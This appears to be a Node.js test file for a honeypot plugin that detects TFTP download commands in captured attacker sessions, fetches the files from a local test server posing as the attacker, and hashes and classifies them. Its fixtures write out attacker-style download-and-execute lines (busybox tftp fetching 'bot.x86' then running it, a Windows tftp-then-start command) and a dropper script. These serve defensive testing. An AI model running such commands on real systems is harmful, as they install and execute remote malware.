// Tests for tftp-download, run by `honeytrap-plugin test` with node:test. The
// plugin runs in the daemon's own worker engine and fetches through the
// daemon's own network broker (allowPrivateNetwork) from a real tftpd-hpa
// (in.tftpd) this file starts on port 69 of a loopback address, the "attacker".
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { attackFixture, loadPlugin, runPlugin } from '@honeytrap/sdk';

const dir = fileURLToPath(new URL('..', import.meta.url));
/** A loopback address of its own, so that two runs of these tests do not meet on the same port. */
const ATTACKER = `127.${1 + Math.floor(Math.random() * 250)}.${Math.floor(Math.random() * 256)}.${2 + Math.floor(Math.random() * 250)}`;

/** The first 64 KiB of the node binary: a real x86-64 ELF. */
const BOT = readFileSync(process.execPath).subarray(0, 65536);
const SCRIPT = Buffer.from(`#!/bin/sh\ntftp -g -r bot.x86 ${ATTACKER}\nchmod +x bot.x86\n`);

/** Whether in.tftpd answers a read request for tftp1.sh with a DATA packet within 200 ms. */
function tftpAnswers() {
  return new Promise((resolve) => {
    const socket = createSocket('udp4');
    const done = (answered) => {
      clearTimeout(timer);
      socket.close();
      resolve(answered);
    };
    const timer = setTimeout(() => done(false), 200);
    socket.on('message', (m) => done(m.readUInt16BE(0) === 3));
    socket.on('error', () => done(false));
    socket.send(Buffer.from('\0\x01tftp1.sh\0octet\0', 'latin1'), 69, ATTACKER);
  });
}

const root = mkdtempSync(join(tmpdir(), 'tftp-download-'));
let tftpd;

before(async () => {
  writeFileSync(join(root, 'bot.x86'), BOT, { mode: 0o644 });
  writeFileSync(join(root, 'tftp1.sh'), SCRIPT, { mode: 0o644 });
  execFileSync('chmod', ['755', root]);
  tftpd = spawn(
    'in.tftpd',
    ['--foreground', '--listen', '--address', `${ATTACKER}:69`, '--secure', root],
    { stdio: ['ignore', 'ignore', 'pipe'] },
  );
  let stderr = '';
  tftpd.stderr.on('data', (d) => (stderr += d));
  for (let tries = 0; !(await tftpAnswers()); tries++)
    if (tftpd.exitCode !== null || tries > 50)
      throw new Error(`in.tftpd does not answer: ${stderr}`);
});
after(() => {
  tftpd?.kill();
  rmSync(root, { recursive: true, force: true });
});

/** [url, status, via] of each download finding. */
const summary = (out) =>
  out.findings
    .filter((f) => f.type === 'download')
    .map(({ value, meta }) => [value, meta.status, meta.via]);

/** runPlugin on `received` from the attacker, the broker allowed to reach loopback; `opts`: config, results. */
const run = (received, opts) =>
  runPlugin(dir, attackFixture({ received, remote: ATTACKER, port: 23 }), {
    allowPrivateNetwork: true,
    ...opts,
  });

test('busybox tftp -g -r FILE HOST: the file is stored, hashed and typed', async () => {
  const received = `cd /tmp; /bin/busybox tftp -g -r bot.x86 ${ATTACKER}; chmod 777 bot.x86; ./bot.x86\r\n`;
  const out = await run(received);
  assert.deepEqual(summary(out), [[`tftp://${ATTACKER}/bot.x86`, 'ok', 'busybox tftp']]);
  const { offset, meta } = out.findings[0];
  assert.equal(offset, received.indexOf('tftp -g'));
  assert.equal(meta.code, 0);
  for (const a of ['md5', 'sha1', 'sha256', 'sha512'])
    assert.equal(meta[a], createHash(a).update(BOT).digest('hex'), a);
  assert.equal(meta.size, BOT.length);
  assert.equal(meta.fileType, 'ELF');
  assert.match(meta.fileDescription, /^ELF 64-bit LSB (executable|shared object), x86-64$/);
  assert.deepEqual(out.artifacts, [
    { name: 'bot.x86', contentType: 'application/x-elf', data: BOT.toString('base64') },
  ]);
});

test('the spellings: -l LOCAL, clustered -gr with a port, -l only, tftp-hpa -c get, Windows -i GET, tftp://', async () => {
  const lines = [
    `tftp -g -l /tmp/.x -r bot.x86?a ${ATTACKER}`,
    `busybox tftp -gr tftp1.sh ${ATTACKER} 69`,
    `tftp -g -l bot.x86 ${ATTACKER} 69`,
    `tftp -m binary ${ATTACKER} -c get tftp1.sh?b`,
    `cmd /c tftp -i ${ATTACKER} GET bot.x86?c C:\\x.exe & start C:\\x.exe`,
    `tftp -i ${ATTACKER} get tftp1.sh?d`,
    `"tftp://${ATTACKER}/bot.x86?e"`,
    `tftp -p -l loot.tar ${ATTACKER}`, // an upload: nothing to fetch
  ];
  const out = await run(lines.join('\n'), { config: { maxDownloads: 10 } });
  assert.deepEqual(
    summary(out).map(([url, status, via]) => [url.replace(`tftp://${ATTACKER}/`, ''), status, via]),
    [
      ['bot.x86%3Fa', 'failed', 'tftp'],
      ['tftp1.sh', 'ok', 'busybox tftp'],
      ['bot.x86', 'ok', 'tftp'],
      ['tftp1.sh%3Fb', 'failed', 'tftp'],
      ['bot.x86%3Fc', 'failed', 'tftp'],
      ['tftp1.sh%3Fd', 'failed', 'tftp'],
      ['bot.x86?e', 'ok', 'url'], // a URL's query is not part of the TFTP file name,
    ],
  );
  // the files asked for with a "?x" suffix (in their names, not a URL query) do not exist: TFTP error 1
  const missing = out.findings[0].meta;
  assert.equal(missing.code, 1);
  assert.match(missing.error, /^1/);
  assert.deepEqual(
    out.artifacts.map((a) => [a.name, a.contentType]),
    [
      ['tftp1.sh', 'text/x-shellscript'],
      ['bot.x86', 'application/x-elf'],
    ],
  );
});

test('failures are recorded: no server on the port, a host that is not the attacker', async () => {
  const received = [`tftp -g -r bot.x86 ${ATTACKER} 6999`, 'tftp -g -r bot.x86 127.0.0.1'].join(
    ';',
  );
  const out = await run(received, { config: { timeoutMs: 1500 } });
  const [noServer, other] = out.findings;
  assert.equal(noServer.value, `tftp://${ATTACKER}:6999/bot.x86`);
  assert.equal(noServer.meta.status, 'failed');
  assert.equal(noServer.meta.errorCode, 'HT_PLUGIN_NETWORK');
  assert.equal(other.value, 'tftp://127.0.0.1/bot.x86');
  assert.equal(other.meta.status, 'refused');
  assert.equal(other.meta.errorCode, 'HT_PLUGIN_DENIED');
  assert.deepEqual(out.artifacts, []);
});

test("a downloaded script (text artifact) and url-extract's findings lead to downloads", async () => {
  const plugin = await loadPlugin(dir, { allowPrivateNetwork: true });
  try {
    const attack = attackFixture({ received: 'tftp', remote: ATTACKER });
    const out = await plugin.runArtifact(
      {
        data: SCRIPT,
        contentType: 'text/x-shellscript',
        name: 'tftp1.sh',
        producer: 'http-download',
      },
      attack,
    );
    assert.deepEqual(summary(out), [[`tftp://${ATTACKER}/bot.x86`, 'ok', 'tftp']]);
  } finally {
    await plugin.close();
  }
  const results = {
    'url-extract': {
      findings: [
        {
          type: 'command',
          value: 'tftp',
          offset: 0,
          meta: { tool: 'tftp', url: `tftp://${ATTACKER}/tftp1.sh` },
        },
      ],
    },
  };
  const out = await run('nothing the plugin reads itself', { results });
  // tftp1.sh is a script: what it fetches comes in the same task
  assert.deepEqual(summary(out), [
    [`tftp://${ATTACKER}/tftp1.sh`, 'ok', 'url-extract tftp'],
    [`tftp://${ATTACKER}/bot.x86`, 'ok', 'tftp in tftp1.sh'],
  ]);
});

test('prose and probes give nothing', async () => {
  const out = await run('tftp is old\r\n/bin/busybox tftp\r\nenable\r\n');
  assert.deepEqual(out, { findings: [], artifacts: [] });
});
